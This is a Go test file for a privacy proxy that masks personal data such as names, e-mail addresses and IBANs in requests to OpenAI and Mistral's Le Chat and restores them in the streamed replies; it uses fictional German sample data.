	if sc.paths[chat] != 1 || sc.paths[withIBAN] != 1 {
		t.Errorf("path scans %v, want each path once", sc.paths)
	}
	if err := al.Flush(ctx); err != nil {
		t.Fatal(err)
	}
	recs := auditRecords(t, al, dir, "test")
	if len(recs) != 5 {
		t.Fatalf("%d audit records, want 5", len(recs))
	}
	for _, i := range []int{2, 4} {
		if recs[i].Path != "/v1/files/[IBAN]" {
			t.Errorf("record %d: path %q, want the IBAN masked", i, recs[i].Path)
		}
	}
	if recs[3].Path != chat {
		t.Errorf("record 3: path %q, want %q", recs[3].Path, chat)
	}
}

func TestPipelineHistoryIsRedactedAgain(t *testing.T) {
	h := newPipeHarness(t, nil)
	body := `{"model":"gpt-4o","messages":[` +
		`{"role":"user","content":"Schreibe Frau Anna Schmidt eine Mail."},` +
		`{"role":"assistant","content":"Gern, hier ist eine Mail an [PERSON_1]."},` +
		`{"role":"user","content":"Kürzer bitte."}]}`
	for i := 0; i < 2; i++ {
		resp, err := h.client(h.schleuseP, false).Post("https://api.openai.com/v1/chat/completions", "application/json", strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 200 || strings.Contains(h.llm.last(), "Schmidt") {
			t.Fatalf("turn %d: %d, upstream saw %s", i, resp.StatusCode, h.llm.last())
		}
	}
}

// TestPipelineLeChatLinesRestore: Le Chat streams `0:"delta"` lines, each a
// JSON value after its prefix. A restored value with a line break or a
// quote (an address over two lines) is JSON-escaped in them, so that every
// line stays one JSON string and the client reads the original text;
// placeholders split across lines are restored too. Through the running
// proxy.
func TestPipelineLeChatLinesRestore(t *testing.T) {
	var mu sync.Mutex
	var seen string
	lechat := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var req struct {
			MessageInput string `json:"messageInput"`
		}
		b, _ := io.ReadAll(r.Body)
		json.Unmarshal(b, &req)
		mu.Lock()
		seen = req.MessageInput
		mu.Unlock()
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		// The echo in five-byte deltas, as Le Chat's data stream sends them.
		echo := []rune("Antwort: " + req.MessageInput)
		for i := 0; i < len(echo); i += 5 {
			q, _ := json.Marshal(string(echo[i:min(i+5, len(echo))]))
			fmt.Fprintf(w, "0:%s\n", q)
		}
		io.WriteString(w, `d:{"finishReason":"stop"}`+"\n")
	})
	h := newPipeHarnessWith(t, nil, map[string]http.Handler{"chat.mistral.ai": lechat})
	prompt := "Bitte schreibe an Frau Anna Schmidt, Am Markt 1\n53111 Bonn, wegen ihres Antrags.\n#freigabe: Antwort auf ihre Anfrage"
	body, _ := json.Marshal(map[string]any{"chatId": "c1", "model": "mistral-large", "messageInput": prompt})
	resp, err := h.client(h.schleuseP, false).Post("https://chat.mistral.ai/api/chat", "application/json", strings.NewReader(string(body)))
	if err != nil {
		t.Fatal(err)
	}
	out, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	mu.Lock()
	upstream := seen
	mu.Unlock()
	if resp.StatusCode != 200 || strings.Contains(upstream, "Schmidt") || strings.Contains(upstream, "Markt") {
		t.Fatalf("%d %s; upstream saw %q", resp.StatusCode, out, upstream)
	}
	if got := leChatText(t, string(out)); !strings.Contains(got, "Frau Anna Schmidt, Am Markt 1\n53111 Bonn, wegen") || strings.Contains(got, "_1]") {
		t.Fatalf("client read %q (upstream saw %q)", got, upstream)
	}
}

// postJSON posts body as JSON to url through the proxy and returns the
// status and body the client got.
func postJSON(t *testing.T, h *pipeHarness, url, body string) (int, string) {
	t.Helper()
	resp, err := h.client(h.schleuseP, false).Post(url, "application/json", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// TestPipelineFileNameField: a field that holds one file name is read with
// "_" as a blank, so the name in "Abmahnung_Anna_Schmidt.pdf" (the
// file_name of an upload's metadata, an attachment list) is found and
// replaced in place; before, the whole token was one word and the name
// reached the service.
func TestPipelineFileNameField(t *testing.T) {
	h := newPipeHarness(t, nil)
	n := len(h.llm.received)
	code, body := postJSON(t, h, "https://api.openai.com/v1/chat/completions",
		`{"model":"gpt-4o","messages":[{"role":"user","content":"Fasse den Anhang zusammen."}],"metadata":{"anhang":"Abmahnung_Jürgen_Kowalski.pdf"}}`)
	if code != 200 || len(h.llm.received) != n+1 {
		t.Fatalf("%d %s", code, body)
	}
	if got := h.llm.received[n]; strings.Contains(got, "Kowalski") || !strings.Contains(got, "Abmahnung_[PERSON_1].pdf") {
		t.Fatalf("the service got %s", got)
	}
}

// TestEmailWithJoinersInspected: an e-mail address with "_" or "+" in its
// local part that stands alone in a field (a message, OpenAI's user, a
// tool's argument), a query value or a path segment is found. Such a text
// has the shape of a file name ("anna_schmidt@stadt-musterhausen.de": "_"
// before a dot and two letters), and only its reading as one was scanned,
// "anna schmidt@stadt-musterhausen de", which holds no address: each went
// to the service unread.
func TestEmailWithJoinersInspected(t *testing.T) {
	h := newPipeHarness(t, nil)
	for _, addr := range []string{"anna_schmidt@stadt-musterhausen.de", "jürgen_kowalski@web.de", "anna+ki@stadt-musterhausen.de"} {
		for _, body := range []string{
			`{"model":"gpt-4o","messages":[{"role":"user","content":"` + addr + `"}]}`,
			`{"model":"gpt-4o","user":"` + addr + `","messages":[{"role":"user","content":"Hallo"}]}`,
			`{"model":"gpt-4o","messages":[{"role":"user","content":"Schreib ihr."},{"role":"assistant","tool_calls":[{"id":"c1","type":"function","function":{"name":"mail","arguments":"{\"an\":\"` + addr + `\"}"}}]},{"role":"tool","tool_call_id":"c1","content":"` + addr + `"}]}`,
		} {
			n := len(h.llm.received)
			code, out := postJSON(t, h, "https://api.openai.com/v1/chat/completions", body)
			if code != 200 || len(h.llm.received) != n+1 {
				t.Fatalf("%s: %d %.300s", body, code, out)
			}
			if got := h.llm.received[n]; strings.Contains(got, "@") || !strings.Contains(got, "[EMAIL_") {
				t.Errorf("the service got %s", got)
			}
		}
		for _, u := range []string{"https://api.openai.com/v1/chat/completions?email=" + url.QueryEscape(addr), "https://api.openai.com/v1/users/" + url.PathEscape(addr)} {
			n := len(h.llm.received)
			code, out := postJSON(t, h, u, `{"model":"gpt-4o","messages":[{"role":"user","content":"Hallo"}]}`)
			if code == 200 || len(h.llm.received) != n {
				t.Errorf("%s: %d %.300s", u, code, out)
			}
		}
	}
}

// TestEmailInFileNameInspected: an uploaded file whose name holds an
// e-mail address is blocked as one with the address, as its content would
// be; a clean name passes. The name was read with "_", "-" and "+" as
// blanks and its extensions apart ("max.mustermann@web .de.txt"), which
// holds no address, and the file went out.
func TestEmailInFileNameInspected(t *testing.T) {
	h := newPipeHarness(t, nil)
	for _, c := range []struct {
		name  string
		clean bool
	}{{"max.mustermann@web.de.txt", false}, {"anfrage_anna-lena_schmidt@stadt.de.txt", false},
		{"anna.schmidt@stadt-musterhausen.de", false}, {"anna.schmidt@stadt-musterhausen.de.pdf", false}, {"brief.txt", true}} {
		var mp bytes.Buffer
		w := multipart.NewWriter(&mp)
		w.WriteField("purpose", "assistants")
		fw, _ := w.CreateFormFile("file", c.name)
		fw.Write([]byte("Sehr geehrte Damen und Herren, vielen Dank für Ihre Nachricht."))
		w.Close()
		req, _ := http.NewRequest("POST", "https://api.openai.com/v1/files", &mp)
		req.Header.Set("Content-Type", w.FormDataContentType())
		n := len(h.llm.received)
		code, out := h.send(t, req)
		if sent := len(h.llm.received) > n; sent != c.clean || !c.clean && !strings.Contains(out, "E-Mail") {
			t.Errorf("%s: %d, forwarded %v: %.300s", c.name, code, sent, out)
		}
	}
}

// TestFileNameTextEmail: a file name with an "@" is read as it stands,
// its last extension apart, but not an address's top-level domain: a file
// named "anna.schmidt@stadt-musterhausen.de" was read as
// "anna.schmidt@stadt-musterhausen .de", which holds no address, and went
// out. An "@" inside the extension is no address's.
func TestFileNameTextEmail(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"max.mustermann@web.de.txt", "max.mustermann@web.de .txt"},
		{"anna_schmidt@stadt.de.pdf", "anna_schmidt@stadt.de .pdf"},
		{"anna.schmidt@stadt-musterhausen.de", "anna.schmidt@stadt-musterhausen.de"},
		{"anna@stadt.nrw.de", "anna@stadt.nrw .de"},
		{"a.b@cd", "a.b@cd"},
		{"@.x", "@.x"},
	} {
		if got := fileNameText(tc.in); got != tc.want {
			t.Errorf("fileNameText(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestFileNameField(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"Abmahnung_Anna_Schmidt.pdf", "Abmahnung Anna Schmidt pdf"},
		{"Bescheid+Anna-Lena_Brandt.docx", "Bescheid Anna-Lena Brandt docx"},
		{"Anna-Lena.pdf", ""},      // no "_" or "+": the detectors read it as it is
		{"Abmahnung Anna.pdf", ""}, // white space: text, not a file name
		{"snake_case_name", ""},    // no extension
		{"a/b_c.pdf", ""},          // a path
		{"report_2024.tar.gz", "report 2024.tar gz"},
		{"x_y.p-f", ""},
		{"anna_schmidt@stadt-musterhausen.de", ""}, // an e-mail address, read as it stands
		{"anna+ki@stadt.de", ""},
	} {
		got, ok := fileNameField(tc.in)
		if ok != (tc.want != "") || got != tc.want {
			t.Errorf("fileNameField(%q) = %q, %v; want %q", tc.in, got, ok, tc.want)
		}
	}
}

// FuzzFileNameField: a file name keeps its length and changes only at "_",
// "+" and its last dot, so findings' offsets hold for the field.
func FuzzFileNameField(f *testing.F) {
	for _, s := range []string{"Abmahnung_Anna_Schmidt.pdf", "Bescheid+Anna-Lena_Brandt.docx", "a_b.ü", "x_y.p-f", "report_2024.tar.gz"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got, ok := fileNameField(s)
		if !ok {
			return
		}
		if len(got) != len(s) {
			t.Fatalf("length %d → %d", len(s), len(got))
		}
		for i := range len(s) {
			if got[i] != s[i] && (got[i] != ' ' || !strings.ContainsRune("_+.", rune(s[i]))) {
				t.Fatalf("byte %d: %q → %q", i, s[i], got[i])
			}
		}
	})
}

// TestPipelineSystemPromptIsInspected: a system prompt is text a person can
// type into an API client as freely as the prompt; it is scanned by default
// (scanned once, then cached) and redacted in place. A schema's option list
// is scanned too, and the default policy lets its category words pass.
func TestPipelineSystemPromptIsInspected(t *testing.T) {
	h := newPipeHarness(t, nil)
	n := len(h.llm.received)
	body := `{"model":"gpt-4o","messages":[{"role":"system","content":"Du schreibst für Herrn Mehmet Yılmaz, IBAN ` + testIBAN + `."},{"role":"user","content":"Schreib den Brief."}],` +
		`"response_format":{"type":"json_schema","json_schema":{"name":"a","schema":{"type":"object","properties":{"m":{"type":"string","enum":["Pflegegrad 3","keine"]}}}}}}`
	for range 2 { // the second time from the cache
		code, got := postJSON(t, h, "https://api.openai.com/v1/chat/completions", body)
		if code != 200 {
			t.Fatalf("%d %.300s", code, got)
		}
		sent := h.llm.received[len(h.llm.received)-1]
		if strings.Contains(sent, "Yılmaz") || strings.Contains(sent, "0532") || !strings.Contains(sent, "[PERSON_1]") || !strings.Contains(sent, "Pflegegrad 3") {
			t.Fatalf("the service got %s", sent)
		}
	}
	if len(h.llm.received) != n+2 {
		t.Fatalf("%d requests", len(h.llm.received)-n)
	}
}

// TestMaskBase64Path: base64 of text in a path, as a segment or as the rest
// of the path (standard base64 with "/" of its own), is recorded as
// "[text]"; routes, ids and tokens stay.
func TestMaskBase64Path(t *testing.T) {
	for path, want := range map[string]string{
		"/v1/chat/completions": "/v1/chat/completions",
		"/v1/files/6750f1e2-4b2c-8007-9c1a-123456789012/content":                                 "/v1/files/6750f1e2-4b2c-8007-9c1a-123456789012/content",
		"/v1/files/file-Xq3rTz8KpL2mWv9BnC4dYh7s/content":                                        "/v1/files/file-Xq3rTz8KpL2mWv9BnC4dYh7s/content",
		"/v1/files/R290dGZyaWVkIFd1bmRlcmxpY2ggd29obnQgaW4gZGVyIEhhdXB0c3RyYcOfZSA1Pz4-/content": "/v1/files/[text]/content",
		"/cb/QW5uYSBTY2htaWR0ID8+Pz4/PiBJQkFOIERFODkzNzA0MDA0NDA1MzIwMTMwMDA=":                   "/cb/[text]",
	} {
		if got := maskBase64Path(path); got != want {
			t.Errorf("maskBase64Path(%q) = %q, want %q", path, got, want)
		}
	}
}
